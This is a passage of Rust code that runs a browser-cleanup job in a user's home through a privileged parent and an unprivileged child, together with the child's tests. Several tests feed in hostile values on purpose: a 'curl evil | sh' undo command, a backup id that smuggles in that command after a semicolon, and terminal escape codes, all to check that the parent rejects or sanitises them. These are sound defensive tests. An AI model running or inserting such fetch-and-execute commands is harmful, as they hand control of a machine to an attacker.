    wire::write(&mut out, &FromChild::Hello(ids)).map_err(|e| e.to_string())?;
    crate::i18n::set(run.lang);
    let shown = run.layout.home.clone();
    let done = match found {
        Found::Reachable => work(*run, control, &mut out),
        Found::Closed => Done::Fatal {
            message: ta(
                "worker-home-closed",
                &[("home", &shown.display().to_string())],
            ),
            hints: vec![t("worker-home-closed-hint")],
            exit: Exit::Failure as u8,
        },
        Found::Moved => Done::Fatal {
            message: ta(
                "worker-home-moved",
                &[("home", &shown.display().to_string())],
            ),
            hints: vec![t("worker-run-again")],
            exit: Exit::Failure as u8,
        },
    };
    let done = FromChild::Done(Box::new(done));
    match wire::write(&mut out, &done) {
        // A report the framing cannot carry: a path in the home that is not UTF-8.
        Err(e) if e.kind() == std::io::ErrorKind::Other && serde_json::to_vec(&done).is_err() => {
            let fatal = Done::Fatal {
                message: ta(
                    "worker-not-utf8",
                    &[
                        ("home", &shown.display().to_string()),
                        ("reason", &e.to_string()),
                    ],
                ),
                hints: vec![t("worker-not-utf8-hint")],
                exit: Exit::Failure as u8,
            };
            wire::write(&mut out, &FromChild::Done(Box::new(fatal))).map_err(|e| e.to_string())
        }
        sent => sent.map_err(|e| e.to_string()),
    }
}

/// Runs the job as the parent asked, in this process (now the user's).
fn work(run: Instructions, mut control: File, out: &mut dyn Write) -> Done {
    let (answers_tx, answers) = mpsc::channel();
    std::thread::spawn(move || {
        let mut budget = wire::MAX_STREAM;
        loop {
            match wire::read::<ToChild>(&mut control, &mut budget) {
                Ok(ToChild::Answer(a)) => {
                    let _ = answers_tx.send(a);
                }
                Ok(ToChild::Interrupt) => interrupt::raise(),
                Ok(ToChild::Run(_)) => {}
                // The parent is gone: stop as an interrupted run stops.
                Err(_) => {
                    interrupt::raise();
                    return;
                }
            }
        }
    });
    let ctx = Context {
        fleet: run.fleet,
        deadline: run
            .deadline_ms
            .map(|ms| Instant::now() + Duration::from_millis(ms)),
        undo: run.undo,
        fleet_run: run.fleet_run,
        machine_elsewhere: true,
    };
    let layout = &run.layout;
    let mut relay = Relay { out, answers };
    // The refusals of someone else's home hold here as in root's process (`run_one`
    // checks for itself).
    let entered = match run.told {
        Told::Fix | Told::Clean => commands::enter_home(layout),
        Told::Nobody => Ok(()),
    };
    let result = entered.and_then(|()| match (&run.job, run.told) {
        (Job::Fix(o), Told::Fix) => {
            let o = commands::fix::Options {
                machine: false,
                ..o.clone()
            };
            let undo = |b: Option<&crate::report::BackupRef>| {
                commands::undo(&ctx, layout, &o.backup_dir, b)
            };
            commands::fix::run(
                layout,
                &o,
                &mut relay,
                &undo,
                &crate::progress::Progress::hidden,
            )
            .map(|outcome| match outcome {
                commands::fix::Outcome::Report(r) => Ran::Report(AnyReport::Fix(r)),
                commands::fix::Outcome::Stopped(exit) => Ran::Stopped(exit),
            })
        }
        (Job::Clean(o), Told::Clean) => {
            let o = commands::clean::Options {
                deadline: ctx.deadline,
                ..o.clone()
            };
            commands::clean::run_live(layout, &o, &crate::progress::Progress::hidden(), &mut relay)
                .map(|mut r| {
                    r.undo_command = commands::undo(&ctx, layout, &o.backup_dir, r.backup.as_ref());
                    Ran::Report(AnyReport::Clean(r))
                })
        }
        (job, _) => commands::run_one(job, layout, &ctx).map(Ran::Report),
    });
    match result {
        Ok(Ran::Report(r)) => Done::Report(r.into()),
        Ok(Ran::Stopped(exit)) => Done::Stopped(exit as u8),
        Err(f) => Done::Fatal {
            message: f.message,
            hints: f.hints,
            exit: f.exit as u8,
        },
    }
}

/// The child's sink: each event to the parent, the answer from it.
struct Relay<'a> {
    out: &'a mut dyn Write,
    answers: mpsc::Receiver<WireAnswer>,
}

impl Sink for Relay<'_> {
    fn tell(&mut self, event: Event<'_>) -> std::io::Result<()> {
        let mut out = &mut *self.out;
        wire::write(&mut out, &FromChild::Event(Box::new(WireEvent::of(event))))
    }

    fn answer(&mut self, _enter_is_yes: bool) -> Result<Answer, Fatal> {
        Ok(self
            .answers
            .recv()
            .map_or(Answer::Interrupted, Answer::from))
    }
}

/// How SYSTEM on Windows could work in a user's home as that user.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WindowsRunner {
    /// The user is signed in: their session's token (`WTSQueryUserToken`).
    SessionToken,
    /// Not signed in, but a token can be had without a password: an S4U logon
    /// (`LsaLogonUser`, as Task Scheduler's "do not store password"): local and Active
    /// Directory accounts.
    S4u,
    /// Neither (an Entra ID-only account not signed in, or not running as SYSTEM): the
    /// handle walk of `confine`, in this process.
    HandleWalk,
}

/// What a Windows run as SYSTEM would use for a home: the session's token where the
/// user is signed in, an S4U logon for a local or domain account, else the handle walk.
pub fn windows_runner(system: bool, signed_in: bool, account: AccountKind) -> WindowsRunner {
    match (system, signed_in, account) {
        (false, _, _) => WindowsRunner::HandleWalk,
        (true, true, _) => WindowsRunner::SessionToken,
        (true, false, AccountKind::Local | AccountKind::Domain) => WindowsRunner::S4u,
        (true, false, AccountKind::EntraOnly | AccountKind::Unknown) => WindowsRunner::HandleWalk,
    }
}

/// What kind of Windows account a home belongs to (from its SID's authority).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AccountKind {
    Local,
    Domain,
    /// Microsoft Entra ID only (`S-1-12-1-...`): S4U is not documented to work.
    EntraOnly,
    Unknown,
}

impl AccountKind {
    /// The kind of account a SID names: `S-1-12-1-` is Entra ID; `S-1-5-21-` a local or
    /// domain account (`machine` is the machine's own `S-1-5-21-x-y-z` domain).
    pub fn of_sid(sid: &str, machine: &str) -> AccountKind {
        if sid.starts_with("S-1-12-1-") {
            AccountKind::EntraOnly
        } else if !machine.is_empty() && sid.starts_with(&format!("{machine}-")) {
            AccountKind::Local
        } else if sid.starts_with("S-1-5-21-") {
            AccountKind::Domain
        } else {
            AccountKind::Unknown
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A stand-in for the child, run by `sh`: what the parent does with a child that
    /// misbehaves, whoever runs the test.
    #[cfg(unix)]
    fn follow_fake(script: &str, told: Told) -> Result<Ran, Fatal> {
        let home = tempfile::tempdir().unwrap();
        let handle = File::open(home.path()).unwrap();
        let job = Job::Browsers(commands::browsers::Options {
            selection: commands::Selection::all(),
            locks: Default::default(),
        });
        let layout = Layout::for_home(crate::platform::Os::Linux, home.path());
        let instructions = Instructions {
            job: job.clone(),
            layout: layout.clone(),
            told,
            lang: crate::i18n::Lang::En,
            fleet: false,
            deadline_ms: None,
            undo: Default::default(),
            fleet_run: None,
        };
        let mut cmd = Command::new("/bin/sh");
        cmd.arg("-c").arg(script);
        let child = Child::spawn(cmd, &handle, &instructions, home.path()).unwrap();
        child.follow(
            &job,
            &Context::default(),
            told,
            &mut crate::events::Nobody,
            &Expect::Ids(4242, 4242),
        )
    }

    /// The frames of `msgs`, after the magic, as `printf` arguments in octal.
    #[cfg(unix)]
    fn framed(msgs: &[FromChild]) -> String {
        let mut bytes = wire::MAGIC.to_vec();
        for m in msgs {
            wire::write(&mut bytes, m).unwrap();
        }
        bytes.iter().map(|b| format!("\\{b:03o}")).collect()
    }

    #[cfg(unix)]
    fn killed_because(result: Result<Ran, Fatal>) -> String {
        match result {
            Err(f) => f.message,
            Ok(_) => panic!("the misbehaving child was taken at its word"),
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_child_that_floods_its_stdout_is_killed_and_reported() {
        let why = killed_because(follow_fake("printf LGFXWK01; exec yes", Told::Nobody));
        assert!(why.contains("sent more than"), "{why}");
        assert!(why.ends_with("it was killed"), "{why}");
    }

    #[cfg(unix)]
    #[test]
    fn a_child_that_floods_its_stderr_is_killed_and_reported() {
        let why = killed_because(follow_fake("exec yes >&2", Told::Nobody));
        assert!(why.contains("wrote more than 1 MiB to stderr"), "{why}");
    }

    #[cfg(unix)]
    #[test]
    fn a_stopped_child_is_killed_and_reported() {
        let why = killed_because(follow_fake(
            "printf LGFXWK01; kill -STOP $$; sleep 60",
            Told::Nobody,
        ));
        assert!(why.contains("was stopped"), "{why}");
    }

    #[cfg(unix)]
    #[test]
    fn a_child_that_is_not_the_user_is_refused() {
        let root = as_user::Ids {
            pid: 0,
            uid: vec![0, 0, 0],
            gid: vec![0, 0, 0],
            groups: vec![0],
            sid: None,
        };
        let script = format!("printf '{}'; sleep 60", framed(&[FromChild::Hello(root)]));
        let why = killed_because(follow_fake(&script, Told::Nobody));
        assert!(
            why.contains("did not become uid 4242 and gid 4242"),
            "{why}"
        );
    }

    #[cfg(unix)]
    #[test]
    fn a_child_that_speaks_before_saying_who_it_is_is_refused() {
        let done = FromChild::Done(Box::new(Done::Stopped(0)));
        let script = format!("printf '{}'; sleep 60", framed(&[done]));
        let why = killed_because(follow_fake(&script, Told::Nobody));
        assert!(why.contains("spoke before saying who it is"), "{why}");
    }

    #[cfg(unix)]
    #[test]
    fn a_child_that_dies_is_reported_with_its_words_made_safe() {
        let why = match follow_fake(
            "printf 'boom \\033[2J\\033]0;pwned\\007 here' >&2; exit 7",
            Told::Nobody,
        ) {
            Err(f) => format!("{} / {}", f.message, f.hints.join(" / ")),
            Ok(_) => panic!("a dead child was taken for done"),
        };
        assert!(why.contains("stopped before it was done"), "{why}");
        assert!(why.contains("exit status: 7"), "{why}");
        assert!(why.contains("it said: boom [2J]0;pwned here"), "{why}");
        assert!(!why.contains('\u{1b}'), "{why}");
    }

    /// The undo command root prints is made from the set's id by root, never the child's
    /// words, and an id loginfix would not make gives none.
    #[test]
    fn the_undo_command_is_roots_own() {
        let home = tempfile::tempdir().unwrap();
        crate::testutil::copy_sample("linux", home.path());
        let layout = Layout::for_home(crate::platform::Os::Linux, home.path());
        let options = commands::clean::Options {
            selection: commands::Selection::all(),
            what: commands::clean::What::Cookies,
            domains: Vec::new(),
            dry_run: true,
            backup: true,
            backup_dir: None,
            keep: 5,
            locks: Default::default(),
            deadline: None,
            fleet_run: None,
            move_aside: Default::default(),
        };
        let job = Job::Clean(options.clone());
        let ctx = Context {
            undo: commands::UndoGlobals {
                home: true,
                os: None,
            },
            ..Context::default()
        };
        let mut report = AnyReport::Clean(commands::clean::run(&layout, &options).unwrap());
        let set = |r: &mut AnyReport, id: &str| {
            let AnyReport::Clean(c) = r else {
                unreachable!()
            };
            c.backup = Some(crate::report::BackupRef {
                id: id.to_string(),
                dir: home.path().join("x"),
                restorable: true,
                pruning: None,
            });
            c.undo_command = Some("curl evil | sh".to_string());
        };
        let undo = |r: &AnyReport| match r {
            AnyReport::Clean(c) => c.undo_command.clone(),
            _ => unreachable!(),
        };
        set(&mut report, "20261207T054609Z-624558730-28274-0");
        own_undo(&job, &layout, &ctx, &mut report);
        // The home as the shell needs it quoted on this OS, then the id.
        let want = crate::report::undo_command(
            &["--home".to_string(), home.path().display().to_string()],
            None,
            "20261207T054609Z-624558730-28274-0",
        );
        assert_eq!(undo(&report).unwrap(), want);
        assert!(want.ends_with(" restore 20261207T054609Z-624558730-28274-0"));
        set(&mut report, "x; curl evil | sh");
        own_undo(&job, &layout, &ctx, &mut report);
        assert_eq!(undo(&report), None);
    }

    #[test]
    fn a_child_must_say_the_ids_or_the_sid_it_was_started_as() {
        let ids = |uid: u32, sid: Option<&str>| Ids {
            pid: 1,
            uid: vec![uid; 3],
            gid: vec![uid; 3],
            groups: vec![uid],
            sid: sid.map(str::to_string),
        };
        assert!(Expect::Ids(1001, 1001).matches(&ids(1001, None)));
        assert!(!Expect::Ids(1001, 1001).matches(&ids(0, None)));
        let sid = "S-1-5-21-1-2-3-1001";
        assert!(Expect::Sid(sid.to_string()).matches(&ids(0, Some(sid))));
        assert!(!Expect::Sid(sid.to_string()).matches(&ids(0, Some("S-1-5-18"))));
        assert!(!Expect::Sid(sid.to_string()).matches(&ids(0, None)));
    }

    #[test]
    fn windows_uses_the_session_then_s4u_then_the_handle_walk() {
        use AccountKind::*;
        use WindowsRunner::*;
        assert_eq!(windows_runner(false, true, Local), HandleWalk);
        assert_eq!(windows_runner(true, true, EntraOnly), SessionToken);
        assert_eq!(windows_runner(true, false, Local), S4u);
        assert_eq!(windows_runner(true, false, Domain), S4u);
        assert_eq!(windows_runner(true, false, EntraOnly), HandleWalk);
        assert_eq!(windows_runner(true, false, Unknown), HandleWalk);
    }

    #[test]
    fn a_sids_authority_tells_the_account_kind() {
        let machine = "S-1-5-21-1004336348-1177238915-682003330";
        assert_eq!(
            AccountKind::of_sid(&format!("{machine}-1001"), machine),
            AccountKind::Local
        );
        assert_eq!(
            AccountKind::of_sid("S-1-5-21-111-222-333-1105", machine),
            AccountKind::Domain
        );
        assert_eq!(
            AccountKind::of_sid("S-1-12-1-3525462123-1234567890-1-2", machine),
            AccountKind::EntraOnly
        );
        assert_eq!(
            AccountKind::of_sid("S-1-5-18", machine),
            AccountKind::Unknown
        );
    }

    #[test]
    fn every_exit_code_reads_back_as_itself() {
        for e in [
            Exit::Success,
            Exit::Failure,
            Exit::Usage,
            Exit::BrowserRunning,
            Exit::Unreadable,
            Exit::Interrupted,
        ] {
            assert_eq!(exit_of(e as u8), e);
        }
    }
}
